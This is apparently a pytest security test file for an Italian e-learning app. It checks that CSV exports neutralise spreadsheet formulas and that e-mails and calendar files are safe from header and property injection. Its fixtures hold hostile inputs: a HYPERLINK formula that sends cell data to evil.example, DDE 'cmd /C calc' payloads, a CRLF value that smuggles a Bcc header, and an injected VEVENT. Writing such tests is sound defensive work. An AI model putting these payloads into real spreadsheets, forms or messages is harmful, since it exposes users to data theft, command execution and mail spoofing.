"""Exports and e-mails built from what people typed.

CSV: a cell a spreadsheet would run as a formula (it starts with = + - @, a tab or a carriage
return, OWASP "CSV injection") is written with a leading apostrophe, in every CSV the app
offers; numbers stay numbers, and the text reads back exactly (no HTML entities, emoji kept).
E-mail: names, titles and places typed in forms go into plain-text bodies and calendar files
without adding headers, MIME parts or calendar properties.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import date, timedelta
from email.message import EmailMessage

import pytest
from sqlalchemy import select

from elearn.extensions import db
from tests.security.world import routes
from tests.security.xss import VECTORS, inert_problems, shows

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = {
    "course": '=HYPERLINK("http://evil.example/?x="&A1,"Zoë 😀")',
    "module": "+SUM(1+1)*cmd|' /C calc'!A0",
    "question": "@SUM(A1:A9) & <b>Tom</b> & Jerry 😀?",
    "other_module": "-2+3+cmd|' /C calc'!A0",
}
CHECKED_CSV_ENDPOINTS = {"reports.export", "simulate.loan_csv", "impact.report_csv"}


def _is_number(text: str) -> bool:
    try:
        float(text.replace(",", "."))
    except ValueError:
        return False
    return True


def assert_cells_safe(body: str, delimiter: str = ";") -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff")), delimiter=delimiter))
    assert rows, "an empty CSV"
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START) or _is_number(cell), (
                f"cell {cell!r} would run as a formula"
            )
    return rows


def test_every_csv_export_is_checked() -> None:
    from tests.security.world import url_map_app

    app = url_map_app()
    csv_endpoints = {
        endpoint for endpoint, rule in routes(app, "GET") if rule.endswith((".csv", "csv>"))
    }
    assert csv_endpoints == CHECKED_CSV_ENDPOINTS, "a CSV export is not checked below"


def test_the_impact_report_neutralises_formulas_in_names_and_captions() -> None:
    # The funder's CSV puts cooperative names and captions in cells: typed by admins, so a
    # name like "=HYPERLINK(...)" must reach the spreadsheet as text (csvexport does it).
    from elearn.csvexport import csv_sheet_text

    text = csv_sheet_text([["Cooperative", '=HYPERLINK("http://x")'], ["+39 02 1234", 12.5]])
    rows = [line.split(";") for line in text.lstrip("\ufeff").split("\r\n") if line]
    assert rows[0][1].startswith("\"'=HYPERLINK")
    assert rows[1] == ["'+39 02 1234", "12,5"]


def _formula_course(tmp_path) -> None:
    root = tmp_path / "courses" / "formule"
    root.mkdir(parents=True)
    (root / "course.yml").write_text(
        f"title: {json.dumps(FORMULAS['course'], ensure_ascii=False)}\n"
        "summary: Formule.\nlanguage: it\nlevel: base\naudience: [tutti]\npass_score: 50\n",
        encoding="utf-8",
    )
    question = json.dumps(FORMULAS["question"], ensure_ascii=False)
    (root / "01-uno.md").write_text(
        f"---\ntitle: {json.dumps(FORMULAS['module'], ensure_ascii=False)}\nminutes: 5\n---\n\n"
        f"Testo.\n\n```quiz\nid: q\nquestion: {question}\nchoices:\n"
        "  - text: Sì\n    correct: true\n  - text: Altro\n```\n",
        encoding="utf-8",
    )
    (root / "02-due.md").write_text(
        f"---\ntitle: {json.dumps(FORMULAS['other_module'], ensure_ascii=False)}\n"
        "minutes: 5\n---\n\nTesto.\n",
        encoding="utf-8",
    )


def test_report_exports_neutralise_formulas_and_keep_the_text(fresh, tmp_path) -> None:
    from elearn.authoring.services import import_courses
    from elearn.learning import services as learning
    from elearn.models import Course, User
    from tests.security.world import _new_user

    app, world = fresh
    _formula_course(tmp_path)
    org = world.values["organization_id"]
    learners = [
        _new_user(app, "worker", org, f"learner{i}@example.org", f"Learner {i}") for i in range(6)
    ]
    with app.test_request_context():
        assert import_courses(tmp_path / "courses").ok
        course = db.session.scalar(select(Course).where(Course.slug == "formule"))
        module = next(m for m in course.modules if m.slug == "01-uno")
        for n, user_id in enumerate(learners):
            assert db.session.get(User, user_id) is not None
            learning.answer_quiz(user_id, course, module, "q", {"choice": [str(n % 2)]}, "it")
    manager = world.clients["manager"]
    seen: set[str] = set()
    for table in ("courses", "hardest", "groups", "weeks", "modules"):
        response = manager.get(f"/report/{table}.csv", query_string={"corso": "formule"})
        assert response.status_code == 200, table
        assert response.mimetype == "text/csv"
        rows = assert_cells_safe(response.get_data(as_text=True))
        seen.update(cell for row in rows for cell in row)
    for name in ("course", "module", "other_module"):
        assert "'" + FORMULAS[name] in seen, f"{name} title missing or changed in the CSV"
    # the question is plain text in the CSV: no HTML tags or entities, emoji kept
    assert "'@SUM(A1:A9) & <b>Tom</b> & Jerry 😀?" in seen, sorted(seen)
    page = manager.get("/report/").get_data(as_text=True)
    assert shows(page, FORMULAS["question"]), "the dashboard shows the question differently"
    assert not inert_problems(page)


@pytest.mark.parametrize(
    "query",
    [
        {},
        {"principal": "-1000", "annual_rate": "-5", "months": "12"},
        {"principal": "=1+1", "annual_rate": "@SUM(1)", "months": "+12"},
        {"principal": "1000", "annual_rate": "0", "months": "1", "upfront_fees": "-5"},
        {"principal": "1e9", "annual_rate": "99", "months": "600", "lang": "en"},
    ],
)
def test_loan_schedule_csv_holds_only_numbers_and_labels(client, query) -> None:
    response = client.get("/simulatori/prestito/piano.csv", query_string=query)
    assert response.status_code in (200, 422)
    if response.status_code == 200:
        assert response.mimetype == "text/csv"
        rows = assert_cells_safe(response.get_data(as_text=True))
        assert all(_is_number(cell) for row in rows[1:] for cell in row)


# --- e-mails -------------------------------------------------------------------------------


def _calendar_events(part: EmailMessage) -> list:
    import icalendar

    # RFC 5545: an iCalendar stream is UTF-8
    calendar = icalendar.Calendar.from_ical(part.get_payload(decode=True).decode("utf-8"))
    return [c for c in calendar.walk() if c.name == "VEVENT"]


def test_e_mails_carry_typed_text_as_plain_text_only(fresh, smtp_server) -> None:
    from elearn.models import SocialPoint, WelfareDay
    from elearn.outbox.services import send_pending

    app, world = fresh
    app.config.update(
        SMTP_HOST="127.0.0.1", SMTP_PORT=smtp_server.port, MAIL_SENDER="w3@example.org"
    )
    org = world.values["organization_id"]
    day = (date.today() + timedelta(days=9)).isoformat()
    sneaky = "Festa\r\nBcc: victim@evil.example\r\nContent-Type: text/html"
    title = f"{VECTORS['tags']} {VECTORS['unicode']}"[:160]
    place = "Sala 😀\r\nLOCATION:evil\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:injected"
    manager, worker = world.clients["manager"], world.clients["worker"]
    for text, where in ((title, place), (sneaky, "Via Roma 1")):
        response = manager.post(
            "/gestione/welfare-day/nuovo",
            data={
                "organization": org,
                "title": text,
                "day": day,
                "start": "09:00",
                "end": "12:00",
                "place": where,
                "programme": "",
                "capacity": "10",
                "csrf_token": world.csrf["manager"],
            },
            csrf=False,
        )
        assert response.status_code == 302, response.get_data(as_text=True)[:500]
        with app.app_context():
            event_id = db.session.scalar(select(WelfareDay.id).where(WelfareDay.title == text))
        assert event_id, f"the Welfare day {text!r} was saved changed"
        response = worker.post(
            f"/consulenza/welfare-day/{event_id}/iscrizione",
            data={"csrf_token": world.csrf["worker"]},
            csrf=False,
        )
        assert response.status_code == 302
    # a booking at a Social point whose name and address were typed by an admin
    with app.app_context():
        point = db.session.get(SocialPoint, world.values["point_id"])
        point.name, point.address = "Punto 😀 <b>Zoë</b>", "Via\r\nBcc: x@evil.example"
        db.session.commit()
    response = manager.post(
        f"/gestione/richieste/{world.values['request_id']}/appuntamenti/{world.values['appointment_id']}/annulla",
        data={"csrf_token": world.csrf["manager"]},
        csrf=False,
    )
    assert response.status_code == 302
    response = manager.post(
        f"/gestione/richieste/{world.values['request_id']}/prenota",
        data={
            "slot": world.values["free_slot_id"],
            "channel": "in_person",
            "csrf_token": world.csrf["manager"],
        },
        csrf=False,
    )
    assert response.status_code == 302, response.get_data(as_text=True)[:500]
    with app.app_context():
        report = send_pending()
    assert report.failed == 0 and report.sent >= 3, report
    messages = smtp_server.messages
    for message in messages:
        assert message["Bcc"] is None and message["Cc"] is None
        assert "\n" not in message["Subject"] and "evil" not in message["To"]
        body = message.get_body(preferencelist=("plain",))
        assert body is not None
        assert not any(p.get_content_type() == "text/html" for p in message.walk())
        for part in message.iter_attachments():
            if part.get_content_type() == "text/calendar":
                events = _calendar_events(part)
                assert len(events) == 1, "a typed text added a calendar event"
                assert "injected" not in str(events[0].get("SUMMARY"))
    bodies = "\n".join(m.get_body(preferencelist=("plain",)).get_content() for m in messages)
    assert title in bodies, "the Welfare day title is not in the e-mail as typed"
    assert "Sala 😀" in bodies and "Punto 😀 <b>Zoë</b>" in bodies
    summaries = {
        str(event.get("SUMMARY"))
        for m in messages
        for part in m.iter_attachments()
        if part.get_content_type() == "text/calendar"
        for event in _calendar_events(part)
    }
    assert title in summaries, summaries
